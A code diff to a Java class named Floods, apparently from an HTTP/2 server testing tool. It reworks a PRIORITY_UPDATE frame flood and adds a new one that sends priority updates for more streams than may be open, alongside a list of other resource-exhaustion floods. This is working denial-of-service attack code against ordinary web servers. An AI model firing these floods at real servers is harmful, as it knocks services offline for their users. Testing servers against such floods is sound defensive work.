@@ -12,6 +12,7 @@ import static dev.weir.attack.Http2Wire.PUSH_PROMISE;
 import static dev.weir.attack.Http2Wire.SETTINGS;
 
 import java.io.ByteArrayOutputStream;
+import java.io.IOException;
 import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
@@ -28,7 +29,7 @@ public final class Floods {
     public static List<Http2Attack> all() {
         return List.of(dribble(), ping(), pingAck(), resourceLoop(), provokedResets(), settings(), manySettings(),
                 emptyFields(), emptyData(), emptyPaddedData(), emptyHeaders(), emptyPromises(), unknown(),
-                priority(), priorityUpdate(), connectionWindow(), streamWindow());
+                priority(), priorityUpdate(), priorityUpdatesOfManyStreams(), connectionWindow(), streamWindow());
     }
 
     /** Asks for much, and lets it come octet by octet. */
@@ -204,15 +205,27 @@ public final class Floods {
         });
     }
 
-    /** PRIORITY_UPDATE for a stream to come. */
+    /** PRIORITY_UPDATE for streams to come, as many as may be open. */
     public static Http2Attack priorityUpdate() {
-        byte[] value = "u=1, i".getBytes(StandardCharsets.US_ASCII);
         return Http2Attack.begun("priority update flood", (wire, _, size) -> {
             for (int i = 0; i < size; i++) {
-                wire.frame(PRIORITY_UPDATE, 0, 0,
-                        ByteBuffer.allocate(4 + value.length).putInt(1 + 2 * i).put(value).array());
+                priorityUpdate(wire, 1 + 2 * (i % 100));
             }
         });
+    }
+
+    /** RFC 9218 section 7.1: for more of them. */
+    public static Http2Attack priorityUpdatesOfManyStreams() {
+        return Http2Attack.begun("priority updates of more streams than may be open", (wire, _, size) -> {
+            for (int i = 0; i < size; i++) {
+                priorityUpdate(wire, 1 + 2 * i);
+            }
+        });
+    }
+
+    private static void priorityUpdate(Http2Wire wire, int stream) throws IOException {
+        byte[] value = "u=1, i".getBytes(StandardCharsets.US_ASCII);
+        wire.frame(PRIORITY_UPDATE, 0, 0, ByteBuffer.allocate(4 + value.length).putInt(stream).put(value).array());
     }
 
     /** The connection's window grows octet by octet. */
